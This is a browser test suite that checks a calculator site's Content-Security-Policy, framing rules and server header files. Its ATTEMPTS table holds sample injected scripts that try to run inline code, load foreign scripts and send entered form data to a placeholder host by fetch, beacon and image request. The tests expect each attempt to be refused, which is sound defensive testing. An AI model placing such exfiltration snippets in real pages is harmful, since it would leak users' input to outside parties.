"""The site's own policy: what it refuses is refused for real, and nothing of the site is."""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from build_scripts.security import HEADER_FILES
from build_scripts.serve import SiteHandler, running, site_server
from tests.browser.conftest import Served, Violations
from tests.browser.faults import causes
from tests.browser.searching import search
from tests.browser.steps import data_of, enter, settled
from tests.browser.watch import started

pytestmark = pytest.mark.browser

ELSEWHERE = "https://elsewhere.invalid/"
FACTS = {"passed": True, "fee": "20万"}

#: What a script that got into a page would try, and the directive that refuses it. Each gives true
#: where it got through.
ATTEMPTS = {
    "an inline script": (
        "script-src-elem",
        """() => { const made = document.createElement("script");
           made.textContent = "window.ran = true"; document.body.append(made); return window.ran }""",
    ),
    "a handler in an element": (
        "script-src-attr",
        """() => { const made = document.createElement("button");
           made.setAttribute("onclick", "window.ran = true"); document.body.append(made);
           made.click(); return window.ran }""",
    ),
    "a script from elsewhere": (
        "require-trusted-types-for",
        f"""() => {{ const made = document.createElement("script");
           try {{ made.src = "{ELSEWHERE}x.js"; document.body.append(made); return true }}
           catch {{ return false }} }}""",
    ),
    "markup with a form in it": (
        "require-trusted-types-for",
        f"""() => {{ const made = document.createElement("div");
           try {{ made.innerHTML = '<form action="{ELSEWHERE}"></form>'; return true }}
           catch {{ return false }} }}""",
    ),
    "sending what was entered": (
        "connect-src",
        f"""() => fetch("{ELSEWHERE}?fee=1").then(() => true, () => false)""",
    ),
    "sending it as a beacon": (
        "connect-src",
        f"""() => new Promise((done) => {{
           document.addEventListener("securitypolicyviolation", () => done(false));
           navigator.sendBeacon("{ELSEWHERE}", "fee=1") }})""",
    ),
    "sending it as a picture's address": (
        "img-src",
        f"""() => new Promise((done) => {{ const made = new Image();
           made.onload = () => done(true); made.onerror = () => done(false);
           made.src = "{ELSEWHERE}?fee=1" }})""",
    ),
    "a style in an element": (
        "style-src-attr",
        """() => { const made = document.createElement("p");
           made.setAttribute("style", "color: red"); document.body.append(made);
           return made.style.color === "red" }""",
    ),
    "another base for every address": (
        "base-uri",
        f"""() => {{ const made = document.createElement("base");
           made.href = "{ELSEWHERE}"; document.head.append(made);
           return document.baseURI.startsWith("{ELSEWHERE}") }}""",
    ),
}


@causes("foreign-script")
@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_what_does_not_belong_to_the_site_is_refused(
    page: Page, served: Served, violations: Violations, attempt: str
) -> None:
    """A script that got into a page could neither run more, nor send anything anywhere."""
    page.goto(served.article("art-10"))
    started(page)
    directive, script = ATTEMPTS[attempt]
    assert not page.evaluate(script)
    violations.wait_for(page, directive)


def test_a_form_is_sent_to_nobody(browser: Browser, served: Served, violations: Violations) -> None:
    """Where no script runs, Enter in a field does not send what was entered to the server."""
    violations.wanted = True
    context = browser.new_context(java_script_enabled=False)
    asked: list[str] = []
    plain = context.new_page()
    plain.goto(served.article("art-10"))
    plain.on("request", lambda request: asked.append(request.url))
    plain.locator('[name="fee"]').fill("200000")
    plain.locator('[name="fee"]').press("Enter")
    plain.wait_for_load_state("load")
    assert plain.url == served.article("art-10")
    context.close()
    assert [one for one in asked if "fee=" in one] == []


def test_every_page_has_one_policy_and_it_is_strict(built_site: Path) -> None:
    """No page goes without, none allows what is unsafe, and all say the same."""
    policies = set()
    for page in built_site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        (said,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
        assert text.index("Content-Security-Policy") < text.index("<script")
        policies.add(said)
    (policy,) = policies
    assert "unsafe-inline" not in policy
    assert not re.search(r"(?<!wasm-)unsafe-eval|unsafe-hashes|\*|https?:", policy)


def _rules(written: str) -> dict[str, list[tuple[str, str]]]:
    """Read a file of headers: each pattern of addresses with its headers."""
    rules: dict[str, list[tuple[str, str]]] = {}
    for line in written.splitlines():
        if line.startswith("  "):
            name, _, value = line.strip().partition(": ")
            rules[next(reversed(rules))].append((name, value))
        else:
            rules[line] = []
    return rules


@pytest.fixture
def with_headers(built_site: Path) -> Iterator[str]:
    """Serve the site with the headers that its own file names, as a host does that reads it."""
    rules = _rules((built_site / HEADER_FILES[0]).read_text(encoding="utf-8"))
    assert "Content-Security-Policy" in dict(rules["/*"])

    class Sending(SiteHandler):
        """Sends with each answer the headers of every rule that its address fits."""

        def end_headers(self) -> None:
            for pattern, headers in rules.items():
                if fnmatch.fnmatchcase(self.path.partition("?")[0], pattern):
                    for name, value in headers:
                        self.send_header(name, value)
            super().end_headers()

    with running(site_server(built_site, handler=Sending)) as address:
        yield address


def test_with_the_headers_everything_works(
    page: Page, context: BrowserContext, with_headers: str
) -> None:
    """Workers, which a page's own policy does not reach, compute and search under the headers."""
    page.goto(f"{with_headers}policies/chengdu-2020-7/art-10/")
    enter(page, FACTS)
    settled(page)
    assert data_of(page, "crypto-testing")["most"] == "100000.00"
    found = search(page, "等保测评")
    expect(found.first).to_have_attribute("href", re.compile("/art-13/"))
    slow = context.new_page()
    slow.route("**/memory.bin", lambda route: route.abort())
    slow.goto(f"{with_headers}en/policies/chengdu-2020-7/art-10/")
    enter(slow, FACTS)
    settled(slow)
    assert data_of(slow, "crypto-testing")["most"] == "100000.00"


@pytest.mark.parametrize(
    ("below", "shown"),
    [
        ("", False),
        ("find/", False),
        ("en/", False),
        ("en/policies/chengdu-2020-7/art-10/", False),
        ("embed/chengdu-2020-7/art-10/", True),
        ("en/embed/chengdu-2020-7/art-10/", True),
    ],
)
def test_with_the_headers_other_sites_frame_the_embedded_calculators_alone(
    page: Page,
    with_headers: str,
    violations: Violations,
    tmp_path: Path,
    below: str,
    *,
    shown: bool,
) -> None:
    """A page of another origin that frames any other page of the site gets an empty frame."""
    violations.wanted = True
    # A page that a test makes up would count as one of the internet, which may frame nothing here.
    framing = f'<!doctype html><iframe src="{with_headers}{below}"></iframe>'
    (tmp_path / "index.html").write_text(framing, encoding="utf-8")
    with running(site_server(tmp_path)) as elsewhere:
        page.goto(elsewhere)
        page.wait_for_load_state("load")
    frame = page.frames[-1]
    assert frame.url.startswith("chrome-error:") is not shown


def test_nginx_is_told_the_same_as_other_hosts(built_site: Path) -> None:
    """Both files name the same headers with the same values; nginx tells frames apart itself."""
    plain, nginx = ((built_site / name).read_text(encoding="utf-8") for name in HEADER_FILES)
    told = re.findall(r'^add_header ([\w-]+) "(.*)" always;$', nginx, re.MULTILINE)
    assert _rules(plain)["/*"] == [
        (name, value.removesuffix("; frame-ancestors $framed")) for name, value in told
    ]
